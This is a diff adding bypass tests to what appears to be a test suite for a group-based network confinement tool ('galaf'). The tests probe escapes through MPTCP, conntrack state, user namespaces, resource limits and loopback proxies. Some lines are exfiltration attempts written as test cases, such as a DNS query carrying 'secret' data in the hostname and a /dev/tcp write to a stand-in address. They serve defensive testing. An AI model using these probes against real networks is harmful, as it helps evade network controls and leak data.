@@ -27,6 +27,8 @@ setup_file() {
             "execv": [ "/usr/bin/curl", "--silent", "--max-time", "5", "http://web.example/" ] },
         "anywhere": { "rule": [ "tcp dport 80", "udp dport 5000" ],
             "execv": [ "/usr/bin/curl", "--silent", "--max-time", "5", "http://198.18.0.10/" ] },
+        "tunnel": { "domains": [ "web.example" ], "rule": "udp dport 53",
+            "execv": [ "/usr/bin/getent", "hosts", "secret.other.example" ] },
         "shell": { "rule": [ "tcp dport 80", "udp dport 5000" ], "execv": [ "/usr/bin/env", "…" ] }
     }
 }
@@ -156,6 +158,16 @@ gid_of() { getent group "$1" | cut -d : -f 3; }
     sysctl --quiet net.ipv4.ip_forward=0
 }
 
+@test "an MPTCP connection counts for who made it" {
+    local mark
+    mark=$(printf '0x%04x03e8' "$(gid_of shell)")
+    passes nft flush set inet galaf post-filter-out
+    gets_out as alice galaf shell $BYPASS/send.py mptcp4
+    eventually 5 bash -c "nft list set inet galaf post-filter-out | grep -qi $mark"
+    passes nft list set inet galaf post-filter-out
+    says_not "0x00000000"
+}
+
 # Groups.
 
 @test "sg, newgrp, setpriv: no way into an application's group" {
@@ -224,6 +236,16 @@ gid_of() { getent group "$1" | cut -d : -f 3; }
     cannot_be_stopped "a socket that an application hands out" as alice $BYPASS/hand_over.py use $BYPASS/gate
 }
 
+@test "a UDP port's next owner doesn't inherit what conntrack remembers of the last one" {
+    gets_out as alice galaf shell $BYPASS/hand_over.py port
+    says "done"
+    passes conntrack -L -p udp --sport 40000
+    says "dport=40000"
+    holds "UDP from the port of an application that has just left it" EPERM as alice $BYPASS/hand_over.py port
+    gets_out as alice galaf shell $BYPASS/hand_over.py port
+    says "done"
+}
+
 @test "an application's memory, descriptors and environment are closed to the user's other programs" {
     in_background sleep 60
     passes as alice $BYPASS/reach_into.py "$pid"
@@ -235,6 +257,17 @@ gid_of() { getent group "$1" | cut -d : -f 3; }
     holds "ptrace, /proc/PID/mem and environ, pidfd_getfd" "ptrace EPERM" as alice $BYPASS/reach_into.py "$pid"
     says "mem EACCES" "environ EACCES" "maps EACCES" "process_vm_readv EPERM" "pidfd_getfd EPERM" \
         "descriptors EACCES" "namespace EACCES" "root EACCES"
+}
+
+@test "an application that makes a user namespace opens its group to the user's other programs" {
+    in_background galaf shell unshare --user --map-current-user sleep 60
+    eventually 5 grep -q "$(gid_of shell)" "/proc/$pid/gid_map"
+    cannot_be_stopped "joining the user namespace of an application" as alice $BYPASS/namespace.py join "$pid" \
+        $BYPASS/send.py tcp4
+    kill "$pid"
+    in_background galaf shell unshare --user sleep 60
+    eventually 5 [ "$(readlink /proc/self/ns/user)" != "$(readlink "/proc/$pid/ns/user")" ]
+    holds "the same where it has mapped no gid" "IndexError" as alice $BYPASS/namespace.py join "$pid" $BYPASS/send.py tcp4
 }
 
 # Through the launcher.
@@ -262,4 +295,35 @@ gid_of() { getent group "$1" | cut -d : -f 3; }
     holds "a copy of the launcher" "has not the capability" as alice bash -c "cp /usr/bin/galaf $BYPASS/copy && $BYPASS/copy anywhere"
     gets_out as alice galaf anywhere
     says "198.18.0.10 80"
+}
+
+@test "the launcher closed, starved or nameless starts nothing that sends" {
+    local limit
+    for limit in --nofile=0 --as=0 --stack=0 --data=0 --nproc=0; do
+        holds "galaf under a limit of zero" "" as alice bash -c "prlimit $limit /usr/bin/galaf shell \
+            bash -c '[ \$(id -gn) = shell ] || $BYPASS/send.py tcp4'; :"
+    done
+    holds "galaf with an empty argv" "wants the name of a group" as alice /usr/bin/python3 -c "import ctypes
+none = (ctypes.c_char_p * 1)()
+ctypes.CDLL(None).execve(b'/usr/bin/galaf', none, none)"
+    as alice ln -sf /usr/bin/galaf $BYPASS/anywhere
+    holds "galaf by a symbolic link of another name" "wants the name of a group" as alice $BYPASS/anywhere
+    holds "a hard link to it" "not permitted" as alice ln /usr/bin/galaf /usr/bin/galaf2
+}
+
+# Names, and what others do.
+
+@test "a DNS query carries nothing out" {
+    local before
+    before=$(wire_packets wire_dns)
+    holds "DNS query with data in its name" "" as alice getent hosts "secret-$RANDOM.example"
+    holds "the same, by an application with domains" "" as alice galaf tunnel
+    holds "the same, over TCP" "" as alice bash -c 'echo x >/dev/tcp/192.0.2.1/53'
+    same "$before" "$(wire_packets wire_dns)" "the name server's count of packets"
+}
+
+@test "a proxy on loopback that an application runs" {
+    in_background galaf shell $BYPASS/proxy.py
+    eventually 5 bash -c ': </dev/tcp/127.0.0.1/8118'
+    cannot_be_stopped "a proxy on loopback that an application runs" as alice fetch http://127.0.0.1:8118/
 }
